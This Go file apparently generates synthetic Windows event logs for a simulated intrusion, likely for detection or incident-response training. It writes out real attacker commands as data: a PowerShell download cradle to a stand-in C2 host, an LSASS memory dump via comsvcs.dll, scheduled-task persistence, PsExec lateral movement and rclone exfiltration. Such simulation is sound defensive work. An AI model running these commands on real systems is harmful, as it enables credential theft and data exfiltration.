package example

import (
	"encoding/base64"
	"fmt"
	"time"
	"unicode/utf16"
)

var (
	ws07  = &host{name: "WS-FIN-07", ip: "10.20.4.37", sysmonBase: 481_203, securityBase: 2_114_870}
	ws12  = &host{name: "WS-FIN-12", ip: "10.20.4.52", sysmonBase: 377_410, securityBase: 1_902_114}
	fs01  = &host{name: "FS01", ip: "10.20.13.5", sysmonBase: 1_204_552, securityBase: 9_871_020}
	adm03 = &host{name: "ADM-03", ip: "10.20.9.11", sysmonBase: 220_981, securityBase: 804_337}
)

const (
	userVictim = `CORVID\j.moreau`
	userAdmin  = `CORVID\adm.kowalski`
	userBackup = `CORVID\svc_backup`
	userVeeam  = `CORVID\svc_veeam`
	c2Domain   = "cdn-update-check.example"
	c2IP       = "203.0.113.45"
	exfilIP    = "198.51.100.23"
	exfilHost  = "files.quickdrop-share.example"
	vpnClient  = "10.250.8.23"

	loaderPath = `C:\Users\j.moreau\AppData\Roaming\UpdateHelper\update_helper.exe`
	stage2Path = `C:\Users\j.moreau\AppData\Local\Temp\stage2.ps1`
	docPath    = `C:\Users\j.moreau\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K2Q8ZP1M\Invoice_0342_March.docm`
	dumpPath   = `C:\Users\Public\Documents\wdupd.dmp`
	psexecPath = `C:\Users\Public\Documents\pe64.exe`
	vbrPath    = `C:\Windows\Temp\vbrcreds.exe`
	rclonePath = `C:\PerfLogs\svchst.exe`
	taskName   = `\Microsoft\Windows\UpdateOrchestrator\UpdateHelper`
	runKey     = `HKU\S-1-5-21-3421764908-2877142395-1208470362-1%d\Software\Microsoft\Windows\CurrentVersion\Run\UpdateHelper`

	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmdExe     = `C:\Windows\System32\cmd.exe`
	rundll32   = `C:\Windows\System32\rundll32.exe`
	schtasks   = `C:\Windows\System32\schtasks.exe`
	winword    = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	outlook    = `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`
	explorer   = `C:\Windows\explorer.exe`
	services   = `C:\Windows\System32\services.exe`
	svchost    = `C:\Windows\System32\svchost.exe`
	lsassExe   = `C:\Windows\System32\lsass.exe`
)

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

// encodedCommand renders a PowerShell -EncodedCommand argument.
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, r := range u {
		b[2*i], b[2*i+1] = byte(r), byte(r>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// system processes that live through the whole recording, per host.
type hostProcs struct {
	explorer, svchost, services, lsass, wmi *proc
}

func (g *gen) baseProcs(h *host, user string) *hostProcs {
	mk := func(image, cmd, u, integrity string) *proc {
		return &proc{guid: g.guid(), pid: g.pid(), image: image, cmd: cmd, user: u, integrity: integrity, logonID: "0x3e7", meta: meta(image), hashes: fakeHashes(image), cwd: `C:\Windows\system32\`}
	}
	hp := &hostProcs{
		services: mk(services, services, `NT AUTHORITY\SYSTEM`, "System"),
		svchost:  mk(svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `NT AUTHORITY\SYSTEM`, "System"),
		lsass:    mk(lsassExe, lsassExe, `NT AUTHORITY\SYSTEM`, "System"),
		wmi:      mk(`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `NT AUTHORITY\NETWORK SERVICE`, "System"),
	}
	if user != "" {
		hp.explorer = mk(explorer, explorer, user, "Medium")
		hp.explorer.logonID = "0x2f1c4a"
		hp.explorer.cwd = `C:\Windows\system32\`
	}
	return hp
}

// attack records the intrusion, stage by stage.
func (g *gen) attack(a *artifacts, ws07p, fs01p *hostProcs) {
	const (
		sExec    = "execution"
		sPersist = "persistence"
		sC2      = "command-and-control"
		sDisc    = "discovery"
		sCred    = "credential-access"
		sLat     = "lateral-movement"
		sColl    = "collection"
		sExfil   = "exfiltration"
		sInitial = "initial-access"
	)
	victimCwd := `C:\Users\j.moreau\Documents\`

	// Day 1: the invoice attachment, opened from Outlook.
	ol := &proc{guid: g.guid(), pid: 7412, image: outlook, cmd: `"` + outlook + `" `, user: userVictim, integrity: "Medium", parent: ws07p.explorer, logonID: "0x2f1c4a", meta: meta(outlook), hashes: fakeHashes(outlook), cwd: victimCwd}
	t0 := at("2026-03-02T08:11:31.402Z")
	g.fileCreate(ws07, t0, ol, docPath, sInitial)
	word := g.process(ws07, at("2026-03-02T08:11:40.118Z"), ol, winword, `"`+winword+`" /n "`+docPath+`" /o ""`, userVictim, "Medium", sInitial)
	cradle := encodedCommand(fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/s2.ps1')", c2Domain))
	ps1 := g.process(ws07, at("2026-03-02T08:12:05.671Z"), word, powershell, `powershell.exe -nop -w hidden -enc `+cradle, userVictim, "Medium", sExec)
	g.imageLoad(ws07, at("2026-03-02T08:12:05.902Z"), ps1, `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Management.Automation\0c2d7f4b9a0d6b1e5a1c7e3b1f0b2c33\System.Management.Automation.ni.dll`, "System.Management.Automation", sExec)
	g.dns(ws07, at("2026-03-02T08:12:06.233Z"), ps1, c2Domain, "::ffff:"+c2IP+";", sC2)
	g.connect(ws07, at("2026-03-02T08:12:06.410Z"), ps1, c2IP, c2Domain, 443, sC2)
	g.fileCreate(ws07, at("2026-03-02T08:12:09.005Z"), ps1, stage2Path, sExec)
	ps2 := g.process(ws07, at("2026-03-02T08:12:14.338Z"), ps1, powershell, `"powershell.exe" -ExecutionPolicy Bypass -WindowStyle Hidden -File "`+stage2Path+`"`, userVictim, "Medium", sExec)
	g.connect(ws07, at("2026-03-02T08:12:15.870Z"), ps2, c2IP, c2Domain, 443, sC2)
	g.fileCreate(ws07, at("2026-03-02T08:12:18.551Z"), ps2, loaderPath, sExec)
	g.regSet(ws07, at("2026-03-02T08:12:31.014Z"), ps2, fmt.Sprintf(runKey, 104), `"`+loaderPath+`" -silent`, sPersist)
	st := g.process(ws07, at("2026-03-02T08:12:40.772Z"), ps2, schtasks, `"C:\Windows\system32\schtasks.exe" /create /tn "`+taskName+`" /tr "'`+loaderPath+`' -silent" /sc onlogon /rl highest /f`, userVictim, "Medium", sPersist)
	g.taskCreated(ws07, at("2026-03-02T08:12:40.990Z"), userVictim, st.logonID, taskName, loaderPath, "-silent", "<LogonTrigger><Enabled>true</Enabled></LogonTrigger>", "HighestAvailable", sPersist)
	loader := g.newProc(ps2, loaderPath, `"`+loaderPath+`" -silent`, userVictim, "Medium")
	loader.hashes, loader.meta = a.loader.hashes, a.loader.meta
	g.logProcess(ws07, at("2026-03-02T08:12:44.120Z"), loader, sExec)

	// The loader beacons every ~15 minutes while the laptop is up, with a
	// DNS lookup about every hour, until containment.
	beaconer := loader
	end := at("2026-03-05T16:02:00Z") // workstation isolated
	for t := at("2026-03-02T08:13:10Z"); t.Before(end); t = t.Add(time.Duration(14*60+g.rng.IntN(120)) * time.Second) {
		hr := t.Hour()
		if hr < 7 || hr >= 18 {
			continue
		}
		if t.Minute() < 15 {
			g.dns(ws07, t.Add(-300*time.Millisecond), beaconer, c2Domain, "::ffff:"+c2IP+";", sC2)
		}
		g.connect(ws07, t, beaconer, c2IP, c2Domain, 443, sC2)
	}

	// Discovery from a shell under the loader.
	shell := g.process(ws07, at("2026-03-02T10:41:02.334Z"), loader, cmdExe, `cmd.exe /c "whoami /all & net user /domain & net group \"Domain Admins\" /domain"`, userVictim, "Medium", sDisc)
	shell.cwd = victimCwd
	t := at("2026-03-02T10:41:03.000Z")
	for _, c := range []struct{ image, cmd string }{
		{`C:\Windows\System32\whoami.exe`, `whoami  /all`},
		{`C:\Windows\System32\net.exe`, `net  user /domain`},
		{`C:\Windows\System32\net.exe`, `net  group "Domain Admins" /domain`},
		{`C:\Windows\System32\nltest.exe`, `nltest  /dclist:corvid.example`},
		{`C:\Windows\System32\ipconfig.exe`, `ipconfig  /all`},
		{`C:\Windows\System32\net.exe`, `net  view \\FS01 /all`},
		{`C:\Windows\System32\systeminfo.exe`, `systeminfo`},
	} {
		t = t.Add(time.Duration(900+g.rng.IntN(9000)) * time.Millisecond)
		g.process(ws07, t, shell, c.image, c.cmd, userVictim, "Medium", sDisc)
	}

	// Day 2: the task starts the loader elevated at logon; it dumps LSASS
	// with comsvcs.dll.
	taskEng := ws07p.svchost
	loader2 := g.newProc(taskEng, loaderPath, `"`+loaderPath+`" -silent`, userVictim, "High")
	loader2.hashes, loader2.meta = a.loader.hashes, a.loader.meta
	g.logProcess(ws07, at("2026-03-03T07:52:18.641Z"), loader2, sPersist)
	beaconer = loader2
	sh2 := g.process(ws07, at("2026-03-03T08:31:12.090Z"), loader2, cmdExe, `cmd.exe /c tasklist /fi "imagename eq lsass.exe"`, userVictim, "High", sDisc)
	g.process(ws07, at("2026-03-03T08:31:12.410Z"), sh2, `C:\Windows\System32\tasklist.exe`, `tasklist  /fi "imagename eq lsass.exe"`, userVictim, "High", sDisc)
	sh3 := g.process(ws07, at("2026-03-03T08:31:40.220Z"), loader2, cmdExe, fmt.Sprintf(`cmd.exe /c rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, ws07p.lsass.pid, dumpPath), userVictim, "High", sCred)
	rd := g.process(ws07, at("2026-03-03T08:31:40.512Z"), sh3, rundll32, fmt.Sprintf(`rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, ws07p.lsass.pid, dumpPath), userVictim, "High", sCred)
	g.imageLoad(ws07, at("2026-03-03T08:31:40.530Z"), rd, `C:\Windows\System32\comsvcs.dll`, "COM+ Services", sCred)
	g.access(ws07, at("2026-03-03T08:31:40.611Z"), rd, ws07p.lsass, "0x1FFFFF",
		`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+386a5|C:\Windows\System32\comsvcs.dll+37f7a|C:\Windows\system32\rundll32.exe+3bd4|C:\Windows\System32\KERNEL32.DLL+17034|C:\Windows\SYSTEM32\ntdll.dll+526a1`, sCred)
	g.fileCreate(ws07, at("2026-03-03T08:31:41.884Z"), rd, dumpPath, sCred)
	g.fileCreate(ws07, at("2026-03-03T08:44:09.302Z"), loader2, dumpPath+".7z", sColl)

	// Password spray from the laptop against FS01's service accounts.
	targets := []string{"svc_sql", "svc_print", "svc_scan", "svc_backup", "svc_veeam", "adm.kowalski", "administrator", "svc_web", "svc_ftp", "svc_report"}
	passwords := 16
	t = at("2026-03-03T09:02:11.000Z")
	found := false
	for round := 0; round < passwords && !found; round++ {
		for _, u := range targets {
			t = t.Add(time.Duration(700+g.rng.IntN(1600)) * time.Millisecond)
			if u == "svc_backup" && round == passwords-1 {
				found = true
				break
			}
			g.logonFailure(fs01, t, domain+`\`+u, 3, ws07.ip, ws07.name, "NTLM", sCred)
		}
		t = t.Add(time.Duration(40+g.rng.IntN(30)) * time.Second)
	}
	g.logon(fs01, t.Add(800*time.Millisecond), userBackup, 3, ws07.ip, ws07.name, "NTLM", true, sCred)

	// Lateral movement: a renamed PsExec with the sprayed password.
	pe := g.process(ws07, at("2026-03-03T09:51:27.004Z"), sh3, psexecPath, psexecPath+` \\FS01 -accepteula -u CORVID\svc_backup -p Backup#24 -s cmd.exe`, userVictim, "High", sLat)
	g.fileCreate(ws07, at("2026-03-03T09:50:58.310Z"), loader2, psexecPath, sLat)
	g.connect(ws07, at("2026-03-03T09:51:27.300Z"), pe, fs01.ip, fs01.fqdn(), 445, sLat)
	lid := g.logon(fs01, at("2026-03-03T09:51:27.512Z"), userBackup, 3, ws07.ip, ws07.name, "NTLM", true, sLat)
	sys := &proc{guid: "{5C1B0E2A-0001-0000-0000-000000000000}", pid: 4, image: "System", user: `NT AUTHORITY\SYSTEM`}
	g.fileCreate(fs01, at("2026-03-03T09:51:27.801Z"), sys, `C:\Windows\PSEXESVC.exe`, sLat)
	g.regSet(fs01, at("2026-03-03T09:51:27.930Z"), fs01p.services, `HKLM\System\CurrentControlSet\Services\PSEXESVC\ImagePath`, `%SystemRoot%\PSEXESVC.exe`, sLat)
	svc := g.process(fs01, at("2026-03-03T09:51:28.104Z"), fs01p.services, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, `NT AUTHORITY\SYSTEM`, "System", sLat)
	remote := g.process(fs01, at("2026-03-03T09:51:28.602Z"), svc, cmdExe, `"cmd.exe" `, `NT AUTHORITY\SYSTEM`, "System", sLat)
	remote.logonID = lid

	// Day 3: exploit the unpatched Veeam service for stored credentials.
	g.fileCreate(fs01, at("2026-03-04T10:12:40.113Z"), remote, vbrPath, sCred)
	vbr := g.newProc(remote, vbrPath, vbrPath+` --target 127.0.0.1:9401 --dump`, `NT AUTHORITY\SYSTEM`, "System")
	vbr.hashes, vbr.meta = a.tool.hashes, a.tool.meta
	g.logProcess(fs01, at("2026-03-04T10:12:55.776Z"), vbr, sCred)
	veeam := &proc{guid: g.guid(), pid: 3388, image: `C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Service.exe`, user: userVeeam}
	g.network(fs01, at("2026-03-04T10:12:56.020Z"), vbr, "127.0.0.1", 51544, "127.0.0.1", fs01.fqdn(), 9401, true, sCred)
	g.network(fs01, at("2026-03-04T10:12:56.021Z"), veeam, "127.0.0.1", 9401, "127.0.0.1", fs01.fqdn(), 51544, false, sCred)

	// Day 3 evening: back in over the VPN with the victim's password alone.
	vpnLogon := g.logon(fs01, at("2026-03-04T21:40:33.902Z"), userVictim, 10, vpnClient, "KALI-01", "Negotiate", false, sInitial)
	g.logon(fs01, at("2026-03-04T21:41:10.330Z"), userVeeam, 2, "127.0.0.1", fs01.name, "Negotiate", true, sLat)
	rdpShell := &proc{guid: g.guid(), pid: 9120, image: explorer, cmd: explorer, user: userVeeam, integrity: "High", logonID: vpnLogon, meta: meta(explorer), hashes: fakeHashes(explorer), cwd: `C:\Users\svc_veeam\`}

	// Day 4: stage the finance share and send it out with a renamed rclone.
	sevenZip := g.process(fs01, at("2026-03-05T09:14:22.581Z"), rdpShell, `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -mx9 -pQ1-2026! C:\PerfLogs\q1.7z D:\Shares\Finance\Q1-2026\*`, userVeeam, "High", sColl)
	for i := 0; i < 12; i++ {
		g.fileCreate(fs01, at("2026-03-05T09:14:30Z").Add(time.Duration(i)*37*time.Second), sevenZip, fmt.Sprintf(`C:\PerfLogs\q1.7z.%03d`, i+1), sColl)
	}
	g.fileCreate(fs01, at("2026-03-05T09:31:02.114Z"), rdpShell, rclonePath, sExfil)
	rc := g.process(fs01, at("2026-03-05T09:33:47.520Z"), rdpShell, rclonePath, rclonePath+` copy C:\PerfLogs\ qd:drop/q1 --transfers 8 --no-check-certificate --config C:\PerfLogs\rc.conf`, userVeeam, "High", sExfil)
	g.dns(fs01, at("2026-03-05T09:33:47.900Z"), rc, exfilHost, "::ffff:"+exfilIP+";", sExfil)
	for i := 0; i < 48; i++ {
		g.connect(fs01, at("2026-03-05T09:33:48Z").Add(time.Duration(i*95+g.rng.IntN(40))*time.Second), rc, exfilIP, exfilHost, 443, sExfil)
	}

	// After the laptop was isolated, the attacker came back over the VPN.
	g.logon(fs01, at("2026-03-05T19:20:05.441Z"), userVictim, 10, "10.250.8.41", "KALI-01", "Negotiate", false, sInitial)
	g.logon(fs01, at("2026-03-05T19:21:12.007Z"), userVeeam, 2, "127.0.0.1", fs01.name, "Negotiate", true, sLat)
}
